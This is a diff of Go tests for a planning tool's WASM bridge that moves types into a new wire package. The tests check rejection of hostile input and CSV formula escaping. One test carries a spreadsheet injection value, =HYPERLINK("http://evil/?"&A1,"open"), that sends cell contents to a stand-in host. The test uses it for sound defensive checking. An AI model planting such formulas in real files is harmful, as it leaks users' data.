@@ -16,6 +16,7 @@ import (
 	"github.com/jimo-plan/fiveyear/plan/jimo"
 	"github.com/jimo-plan/fiveyear/plan/scenario"
 	"github.com/jimo-plan/fiveyear/wasm/bridge"
+	"github.com/jimo-plan/fiveyear/wasm/bridge/internal/wire"
 )
 
 func hostile(t *testing.T, name string) string {
@@ -36,7 +37,7 @@ func TestHostileGoalYears(t *testing.T) {
 		require.NoError(t, json.Unmarshal([]byte(line), &q))
 		_, fault := ask[json.RawMessage](t, s, q.Method, q.Params)
 		require.NotNil(t, fault, q.Method)
-		assert.Equal(t, "invalid", fault.Code, q.Method)
+		assert.EqualValues(t, "invalid", fault.Code, q.Method)
 		assert.Regexp(t, "2020( to |-)2035", fault.Message.EN, q.Method)
 		assert.Regexp(t, "2020[—-]2035", fault.Message.ZH, q.Method)
 	}
@@ -45,9 +46,9 @@ func TestHostileGoalYears(t *testing.T) {
 // Names that begin like a formula are marked as text in every CSV, whether they come with a plan or with a link.
 func TestExportsAreNoFormulas(t *testing.T) {
 	s := server()
-	made, fault := ask[bridge.PlanFile](t, s, "plan.import", bridge.ImportParams{Text: hostile(t, "C14_injection.csv"), File: "c.csv", ID: "evil", Base: 2020, From: 2021, To: 2025})
+	made, fault := ask[wire.PlanFile](t, s, "plan.import", wire.ImportParams{Text: hostile(t, "C14_injection.csv"), File: "c.csv", ID: "evil", Base: 2020, From: 2021, To: 2025})
 	require.Nil(t, fault)
-	v, fault := ask[bridge.PlanView](t, s, "plan.open", bridge.OpenParams{Text: made.Text, File: "evil.json"})
+	v, fault := ask[wire.PlanView](t, s, "plan.open", wire.OpenParams{Text: made.Text, File: "evil.json"})
 	require.Nil(t, fault)
 	linked := scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: jimo.Plan().Version,
 		Formulas: []scenario.Change{{Variable: "zz", Formula: "1", Unit: "%", Name: `=HYPERLINK("http://evil/?"&A1,"open")`}}}
@@ -60,8 +61,8 @@ func TestExportsAreNoFormulas(t *testing.T) {
 		{"evil", scenario.Scenario{Format: 1, Plan: "evil", Version: v.Head.Version}, "'＝1+1"},
 		{"jimo-14fyp", linked, `'=HYPERLINK("http://evil/?"&A1,"open")`},
 	} {
-		for _, what := range []string{"targets", "series"} {
-			out, fault := ask[bridge.ExportView](t, s, "export", bridge.ExportParams{Plan: c.plan, Scenario: c.sc, What: what, Lang: "en"})
+		for _, what := range []wire.ExportKind{"targets", "series"} {
+			out, fault := ask[wire.ExportView](t, s, "export", wire.ExportParams{Plan: c.plan, Scenario: c.sc, What: what, Lang: "en"})
 			require.Nil(t, fault)
 			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.Text, "\ufeff"))).ReadAll()
 			require.NoError(t, err)
@@ -75,11 +76,11 @@ func TestExportsAreNoFormulas(t *testing.T) {
 				}
 			}
 			if c.plan == "evil" || what == "series" { // targets list indicators only
-				assert.Contains(t, cells, c.want, what)
+				assert.Contains(t, cells, c.want, string(what))
 			}
 		}
 	}
-	_, fault = ask[bridge.RunView](t, s, "run", bridge.RunParams{Plan: "jimo-14fyp", Lang: "en", Scenario: scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: jimo.Plan().Version,
+	_, fault = ask[wire.RunView](t, s, "run", wire.RunParams{Plan: "jimo-14fyp", Lang: "en", Scenario: scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: jimo.Plan().Version,
 		Formulas: []scenario.Change{{Variable: "zz", Formula: "1", Unit: "%", Name: "rtl\u202etxt\x00"}}}})
 	require.NotNil(t, fault)
 	assert.Contains(t, fault.Message.EN, "the character U+202E is not allowed")
@@ -89,22 +90,22 @@ func TestExportsAreNoFormulas(t *testing.T) {
 func TestOwnFileTakesNoLinks(t *testing.T) {
 	s := server()
 	code := scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: jimo.Plan().Version}.Code()
-	read, fault := ask[bridge.CodeRead](t, s, "code.read", bridge.CodeParams{Code: code})
+	read, fault := ask[wire.CodeRead](t, s, "code.read", wire.CodeParams{Code: code})
 	require.Nil(t, fault)
 	assert.False(t, read.BuiltIn, "it is open itself")
 
-	_, fault = ask[bridge.PlanView](t, s, "plan.open", bridge.OpenParams{Text: strings.TrimPrefix(hostile(t, "spoof.json"), "\ufeff"), File: "spoof.json"})
+	_, fault = ask[wire.PlanView](t, s, "plan.open", wire.OpenParams{Text: strings.TrimPrefix(hostile(t, "spoof.json"), "\ufeff"), File: "spoof.json"})
 	require.Nil(t, fault)
-	read, fault = ask[bridge.CodeRead](t, s, "code.read", bridge.CodeParams{Code: code})
+	read, fault = ask[wire.CodeRead](t, s, "code.read", wire.CodeParams{Code: code})
 	require.Nil(t, fault)
 	assert.True(t, read.BuiltIn)
-	own, fault := ask[bridge.CodeRead](t, s, "code.read", bridge.CodeParams{Code: scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: "1"}.Code()})
+	own, fault := ask[wire.CodeRead](t, s, "code.read", wire.CodeParams{Code: scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: "1"}.Code()})
 	require.Nil(t, fault)
 	assert.False(t, own.BuiltIn, "a link made of the own file's version opens there")
 
-	_, fault = ask[bridge.PlanView](t, s, "plan.open", bridge.OpenParams{ID: "jimo-14fyp"})
+	_, fault = ask[wire.PlanView](t, s, "plan.open", wire.OpenParams{ID: "jimo-14fyp"})
 	require.Nil(t, fault)
-	read, fault = ask[bridge.CodeRead](t, s, "code.read", bridge.CodeParams{Code: code})
+	read, fault = ask[wire.CodeRead](t, s, "code.read", wire.CodeParams{Code: code})
 	require.Nil(t, fault)
 	assert.False(t, read.BuiltIn)
 }
@@ -115,19 +116,19 @@ func TestRequestsHonourTheirContext(t *testing.T) {
 	gone, cancel := context.WithCancel(t.Context())
 	cancel()
 	for method, params := range map[string]any{
-		"plan.open": bridge.OpenParams{Text: province, File: "p.json"},
-		"run":       bridge.RunParams{Plan: "jimo-14fyp", Scenario: scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: jimo.Plan().Version}},
-		"compare":   bridge.CompareParams{Plan: "jimo-14fyp"},
-		"export":    bridge.ExportParams{Plan: "jimo-14fyp", What: "targets"},
+		"plan.open": wire.OpenParams{Text: province, File: "p.json"},
+		"run":       wire.RunParams{Plan: "jimo-14fyp", Scenario: scenario.Scenario{Format: 1, Plan: "jimo-14fyp", Version: jimo.Plan().Version}},
+		"compare":   wire.CompareParams{Plan: "jimo-14fyp"},
+		"export":    wire.ExportParams{Plan: "jimo-14fyp", What: "targets"},
 	} {
 		p, err := json.Marshal(params)
 		require.NoError(t, err)
-		q, err := json.Marshal(bridge.Request{V: bridge.Protocol, ID: 7, Method: method, Params: p})
+		q, err := json.Marshal(wire.Request{V: bridge.Protocol, ID: 7, Method: method, Params: p})
 		require.NoError(t, err)
-		var resp bridge.Response
+		var resp wire.Response
 		require.NoError(t, json.Unmarshal(s.Handle(gone, q), &resp))
 		require.NotNil(t, resp.Error, method)
-		assert.Equal(t, "cancelled", resp.Error.Code, method)
+		assert.EqualValues(t, "cancelled", resp.Error.Code, method)
 	}
 
 	if runtime.GOOS == "js" {
@@ -138,14 +139,14 @@ func TestRequestsHonourTheirContext(t *testing.T) {
 	for i := range 99 {
 		list = append(list, `{"id":"v`+strings.Repeat("i", i+1)+`","name":{"en":"V"},"unit":"persons","formula":"`+strings.Repeat("a+", 499)+`a"}`)
 	}
-	big, err := json.Marshal(bridge.OpenParams{File: "big.json", Text: `{"format":1,"id":"big","version":"1","title":{"en":"M"},"period":{"base":2020,"from":2021,"to":2025,"horizon":2219},"source":{"title":{"en":"S"}},` +
+	big, err := json.Marshal(wire.OpenParams{File: "big.json", Text: `{"format":1,"id":"big","version":"1","title":{"en":"M"},"period":{"base":2020,"from":2021,"to":2025,"horizon":2219},"source":{"title":{"en":"S"}},` +
 		`"categories":[],"indicators":[],"model":{"variables":[{"id":"a","name":{"en":"A"},"unit":"persons"},` + strings.Join(list, ",") + `]}}`})
 	require.NoError(t, err)
-	q, err := json.Marshal(bridge.Request{V: bridge.Protocol, ID: 41, Method: "plan.open", Params: big})
+	q, err := json.Marshal(wire.Request{V: bridge.Protocol, ID: 41, Method: "plan.open", Params: big})
 	require.NoError(t, err)
-	done := make(chan bridge.Response)
+	done := make(chan wire.Response)
 	go func() {
-		var resp bridge.Response
+		var resp wire.Response
 		_ = json.Unmarshal(s.Handle(context.Background(), q), &resp)
 		done <- resp
 	}()
@@ -153,10 +154,10 @@ func TestRequestsHonourTheirContext(t *testing.T) {
 		select {
 		case resp := <-done:
 			require.NotNil(t, resp.Error, "answered before it could be given up")
-			assert.Equal(t, "cancelled", resp.Error.Code)
+			assert.EqualValues(t, "cancelled", resp.Error.Code)
 			stopped = true
 		case <-time.After(time.Millisecond):
-			_, fault := ask[bridge.OK](t, s, "cancel", bridge.CancelParams{ID: 41})
+			_, fault := ask[wire.OK](t, s, "cancel", wire.CancelParams{ID: 41})
 			require.Nil(t, fault)
 		}
 	}
@@ -165,19 +166,19 @@ func TestRequestsHonourTheirContext(t *testing.T) {
 // Saved scenarios have keys of their own kind: no request for one reads, writes or deletes another kind of record.
 func TestStoreKeysStayApart(t *testing.T) {
 	s := server()
-	_, fault := ask[bridge.KeptPlan](t, s, "plan.keep", bridge.KeepParams{File: "sd.json", Text: province, Now: "2026-01-01T00:00:00Z"})
+	_, fault := ask[wire.KeptPlan](t, s, "plan.keep", wire.KeepParams{File: "sd.json", Text: province, Now: "2026-01-01T00:00:00Z"})
 	require.Nil(t, fault)
-	kept, fault := ask[bridge.KeptPlans](t, s, "plan.kept", bridge.LangParams{})
+	kept, fault := ask[wire.KeptPlans](t, s, "plan.kept", wire.LangParams{})
 	require.Nil(t, fault)
 	require.Len(t, kept.Items, 1)
 	for _, key := range []string{"plan:" + kept.Items[0].Key, kept.Items[0].Key, "actuals:jimo-14fyp"} {
-		for method, params := range map[string]any{"store.save": bridge.SaveParams{ID: key, Name: "x", Plan: "jimo-14fyp"}, "store.load": bridge.IDParams{ID: key}, "store.delete": bridge.IDParams{ID: key}} {
+		for method, params := range map[string]any{"store.save": wire.SaveParams{ID: key, Name: "x", Plan: "jimo-14fyp"}, "store.load": wire.IDParams{ID: key}, "store.delete": wire.IDParams{ID: key}} {
 			_, fault := ask[json.RawMessage](t, s, method, params)
 			require.NotNil(t, fault, method+key)
-			assert.Equal(t, "invalid", fault.Code)
+			assert.EqualValues(t, "invalid", fault.Code)
 		}
 	}
-	kept, fault = ask[bridge.KeptPlans](t, s, "plan.kept", bridge.LangParams{})
+	kept, fault = ask[wire.KeptPlans](t, s, "plan.kept", wire.LangParams{})
 	require.Nil(t, fault)
 	assert.Len(t, kept.Items, 1)
 }
